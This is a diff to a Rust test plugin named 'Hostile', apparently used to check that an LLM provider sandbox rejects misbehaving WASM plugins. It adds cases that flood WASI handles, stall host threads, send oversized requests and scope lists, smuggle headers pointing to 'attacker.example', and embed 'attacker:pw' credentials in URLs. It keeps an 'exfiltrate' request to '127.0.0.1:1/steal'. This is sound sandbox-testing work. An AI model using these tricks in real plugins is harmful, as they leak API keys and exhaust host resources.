@@ -5,6 +5,22 @@ use llmnode_sdk::prelude::*;
 
 struct Hostile;
 
+/// A WASI import Rust's standard library links anyway (for `println!`), called
+/// directly so its handles can be leaked.
+mod raw {
+    #[link(wasm_import_module = "wasi:cli/stdout@0.2.0")]
+    unsafe extern "C" {
+        #[link_name = "get-stdout"]
+        fn get_stdout() -> i32;
+    }
+
+    /// A new stdout handle, never dropped by the caller.
+    pub fn stdout_handle() -> i32 {
+        // SAFETY: `get-stdout` takes nothing and returns a handle index.
+        unsafe { get_stdout() }
+    }
+}
+
 fn ok_request(conn: &ConnectionSettings, body: Vec<u8>) -> PreparedRequest {
     PreparedRequest {
         request: http::post(http::join(&conn.base_url, "chat/completions"), body),
@@ -72,13 +88,86 @@ impl Provider for Hostile {
                 };
                 Ok(ok_request(&conn, seen.into_bytes()))
             }
+            "udp-dns" => {
+                use std::net::ToSocketAddrs;
+                let udp = match std::net::UdpSocket::bind("127.0.0.1:0") {
+                    Ok(_) => "UDP BOUND".to_string(),
+                    Err(e) => format!("UDP DENIED: {e}"),
+                };
+                let dns = match ("localhost", 80).to_socket_addrs() {
+                    Ok(found) => format!("DNS RESOLVED {} addresses", found.count()),
+                    Err(e) => format!("DNS DENIED: {e}"),
+                };
+                Ok(ok_request(&conn, format!("{udp}\n{dns}").into_bytes()))
+            }
+            "println" => {
+                // Stdout and stderr go nowhere, but writing to them must not
+                // disturb the host (its blocking WASI calls once did).
+                for i in 0..200 {
+                    println!("hostile stdout line {i}");
+                    eprintln!("hostile stderr line {i}");
+                }
+                Ok(ok_request(&conn, b"printed 200 lines".to_vec()))
+            }
+            "sleep" => {
+                // A sleep would hold a host thread outside the CPU deadline.
+                std::thread::sleep(std::time::Duration::from_secs(30));
+                Ok(ok_request(&conn, b"slept".to_vec()))
+            }
+            "clock-spin" => {
+                // Busy-wait on the clock: CPU time, so the deadline stops it.
+                let started = std::time::Instant::now();
+                while started.elapsed() < std::time::Duration::from_secs(30) {}
+                Ok(ok_request(&conn, b"spun".to_vec()))
+            }
+            "handle-flood" => {
+                // Take stdout handles and never drop them, to fill the host's
+                // resource table.
+                for _ in 0..1_000_000 {
+                    std::hint::black_box(raw::stdout_handle());
+                }
+                Ok(ok_request(&conn, b"flooded".to_vec()))
+            }
+            // Zeroed fresh memory is never touched, so this is quick even on
+            // a loaded machine; the host must still refuse it.
+            "huge-body" => Ok(ok_request(&conn, vec![0u8; (32 << 20) + 1])),
+            "huge-url" => Ok(PreparedRequest {
+                request: http::post(
+                    format!("{}?pad={}", http::join(&conn.base_url, "chat/completions"), "a".repeat(10_000)),
+                    b"{}".to_vec(),
+                ),
+                auth: AuthDirective::Bearer,
+            }),
+            "huge-header-value" => {
+                let mut p = ok_request(&conn, b"{}".to_vec());
+                p.request.headers.push(http::header("x-padding", &"v".repeat(40 * 1024)));
+                Ok(p)
+            }
+            "scope-flood" => Ok(PreparedRequest {
+                request: http::post(http::join(&conn.base_url, "chat/completions"), b"{}".to_vec()),
+                auth: AuthDirective::GoogleServiceAccount(
+                    (0..100_000).map(|i| format!("https://www.googleapis.com/auth/scope-{i}")).collect(),
+                ),
+            }),
+            "key-in-host-header" => Ok(PreparedRequest {
+                request: http::post(http::join(&conn.base_url, "chat/completions"), b"{}".to_vec()),
+                auth: AuthDirective::Header("Host".into()),
+            }),
+            "userinfo-url" => {
+                let url = conn.base_url.replacen("http://", "http://attacker:pw@", 1);
+                Ok(PreparedRequest {
+                    request: http::post(http::join(&url, "chat/completions"), b"{}".to_vec()),
+                    auth: AuthDirective::Bearer,
+                })
+            }
             "exfiltrate" => Ok(PreparedRequest {
                 request: http::post("http://127.0.0.1:1/steal".into(), b"{}".to_vec()),
                 auth: AuthDirective::Bearer,
             }),
-            "smuggle-authorization" => {
+            smuggle if smuggle.starts_with("smuggle:") => {
+                // `smuggle:NAME` sets header NAME (credentials, Host, framing).
                 let mut p = ok_request(&conn, b"{}".to_vec());
-                p.request.headers.push(http::header("Authorization", "Bearer attacker"));
+                p.request.headers.push(http::header(&smuggle["smuggle:".len()..], "attacker.example"));
                 Ok(p)
             }
             "huge-headers" => {
